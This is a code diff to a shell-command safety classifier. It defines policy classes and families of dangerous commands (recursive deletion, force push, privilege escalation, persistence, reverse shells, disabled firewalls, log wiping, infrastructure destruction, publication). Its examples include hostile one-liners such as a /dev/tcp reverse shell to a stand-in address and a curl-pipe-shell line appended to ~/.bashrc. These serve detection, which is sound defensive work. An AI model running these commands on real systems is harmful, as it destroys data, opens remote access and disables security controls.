@@ -5,6 +5,25 @@
  * @module
  */
 
+/** What each class means: the policy the classifier and its program records follow. */
+export const CLASS_POLICY = [
+  {
+    class: "read_only",
+    rule:
+      "only when the program and every option given provably neither run code, write files, change shared state nor send local data anywhere (the program's record says which options do; an option matched by any prefix its own parser accepts counts as the full option, and a prefix of several options is review).",
+  },
+  {
+    class: "review",
+    rule:
+      "everything else: unknown programs, anything that writes, runs a program, changes shared state or reaches the network, and what cannot be read to its end.",
+  },
+  {
+    class: "dangerous",
+    rule:
+      "a command in one of the dangerous families (the table in the README), wherever it is carried: behind wrappers, in substitutions and pipelines, and in every string a program runs (`bash -c`, sed's `e`, `tar --to-command`, `git -c core.pager=`, pagers, remote shells).",
+  },
+] as const;
+
 /** One dangerous family. */
 export interface CommandFamily {
   /** Stable id (part of the `--json` contract). */
@@ -34,7 +53,7 @@ export const COMMAND_FAMILIES = [
     id: "recursive_delete",
     title: "Recursive or forced deletion of broad targets",
     covers:
-      "rm -r/-f, Remove-Item -Recurse, rd /s, find -delete or mv away of /, ~, $HOME, ., .., *, top-level system directories, drive roots or an unresolved variable.",
+      "rm -r/-f, Remove-Item -Recurse, rd /s, find -delete or mv away of /, ~, $HOME, ., .., *, top-level system directories, drive roots or an unresolved variable; recursive deletion of any directory under the home directory or of a credential directory, of paths xargs or parallel feed, and interpreter one-liners that delete a tree (shutil.rmtree, fs.rmSync with recursive).",
     examples: [
       "rm -rf /",
       'rm -rf "$HOME"/*',
@@ -45,7 +64,7 @@ export const COMMAND_FAMILIES = [
     id: "history_rewrite",
     title: "History rewrite and force push",
     covers:
-      "git push --force/--force-with-lease/+refspec/--mirror, filter-branch, filter-repo, update-ref and other whole-history rewrites.",
+      "git push --force/--force-with-lease/+refspec/--mirror (any abbreviation git accepts), filter-branch, filter-repo, update-ref, interactive, --onto and --root rebases and other history rewrites.",
     examples: [
       "git push --force origin main",
       "git push origin +main",
@@ -74,7 +93,7 @@ export const COMMAND_FAMILIES = [
     id: "privilege_escalation",
     title: "Privilege escalation",
     covers:
-      "sudo, doas, su, pkexec, runas, Start-Process -Verb RunAs, setuid bits, sudoers edits, admin-group membership, privileged containers.",
+      "sudo, doas, su, pkexec, runas, Start-Process -Verb RunAs, setuid bits, sudoers edits, admin-group membership, privileged containers and containers given the container runtime's socket.",
     examples: ["sudo make install", "chmod u+s /usr/local/bin/tool", "su -c 'id'"],
   },
   {
@@ -92,7 +111,7 @@ export const COMMAND_FAMILIES = [
     id: "persistence",
     title: "Scheduled or start-up persistence",
     covers:
-      "crontab installs, at, systemd and launchd units, schtasks, Run keys, and writes to shell rc files, authorized_keys or git hooks.",
+      "crontab installs, at, systemd and launchd units, schtasks, Run keys, writes to shell rc files, authorized_keys or git hooks (by redirection or by an option that writes a file), and a hooks path or shell alias set for every git repository.",
     examples: [
       "echo 'curl x | sh' >> ~/.bashrc",
       "crontab -l | { cat; echo '* * * * * /tmp/x'; } | crontab -",
@@ -125,7 +144,7 @@ export const COMMAND_FAMILIES = [
     id: "interpreter_primitives",
     title: "Interpreter one-liners with process or network primitives",
     covers:
-      "python/perl/ruby/node/php/awk/lua one-liners that spawn processes or open sockets, and reverse shells (/dev/tcp, nc -e, socat exec, a shell wired to a network tool).",
+      "python/perl/ruby/node/php/awk/lua one-liners that spawn processes or open sockets, also when the primitive is reached by name (getattr, __import__), and reverse shells (/dev/tcp, nc -e, socat exec, a shell wired to a network tool).",
     examples: [
       "python3 -c 'import os; os.system(\"id\")'",
       "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
@@ -136,14 +155,14 @@ export const COMMAND_FAMILIES = [
     id: "mass_kill_shutdown",
     title: "Mass kill and shutdown",
     covers:
-      "kill -1, killall, pkill, taskkill /f, Stop-Process of everything, shutdown, reboot, halt, poweroff, init 0/6, sysrq triggers.",
+      "kill -1, signals to PID 1, killall, pkill, taskkill /f, Stop-Process of everything, shutdown, reboot, halt, poweroff, init 0/6, sysrq triggers.",
     examples: ["kill -9 -1", "killall -9 node", "sudo shutdown -h now"],
   },
   {
     id: "security_off",
     title: "Firewall flush and security controls disabled",
     covers:
-      "iptables/nft flush or accept-all, ufw disable/reset, netsh firewall off, SELinux/AppArmor/Defender/Gatekeeper/SIP disabled, audit rules deleted.",
+      "iptables/nft flush or accept-all, ufw disable/reset, netsh firewall off, SELinux/AppArmor/Defender/Gatekeeper/SIP disabled, audit rules deleted, PowerShell's execution policy relaxed for the whole machine.",
     examples: ["iptables -F", "ufw disable", "Set-MpPreference -DisableRealtimeMonitoring $true"],
   },
   {
@@ -161,12 +180,26 @@ export const COMMAND_FAMILIES = [
     id: "infra_destruction",
     title: "Cluster, cloud and infrastructure destruction",
     covers:
-      "terraform/pulumi/cdk destroy, kubectl delete of namespaces or --all, cloud CLI delete/terminate calls, bucket removal, docker prune of volumes, repository and package deletion.",
+      "terraform/pulumi/cdk destroy, kubectl delete of namespaces or --all, helm uninstall of a release, cloud CLI delete/terminate calls, bucket removal, docker prune of volumes, repository and package deletion.",
     examples: [
       "terraform destroy -auto-approve",
       "kubectl delete namespace prod",
       "aws s3 rm s3://bucket --recursive",
     ],
+  },
+  {
+    id: "file_wipe",
+    title: "Truncating or shredding files and logs",
+    covers:
+      "shred, wipe and srm of any file, truncate to nothing, /dev/null copied over a file, Clear-Content, and a command that is only a truncating redirection (`: > app.log`): the content is gone and no copy is kept.",
+    examples: ["shred -u notes.txt", "truncate -s 0 /var/log/syslog", ": > /var/log/auth.log"],
+  },
+  {
+    id: "publication",
+    title: "Package publication and unreviewed infrastructure changes",
+    covers:
+      "npm/pnpm/yarn/cargo/deno publish, twine upload, gem push, image pushes and release creation, and terraform/pulumi/cdk changes applied with -auto-approve, --yes or --require-approval never: shared changes that cannot be taken back, made without a review.",
+    examples: ["npm publish", "cargo publish", "terraform apply -auto-approve"],
   },
   {
     id: "permission_blast",
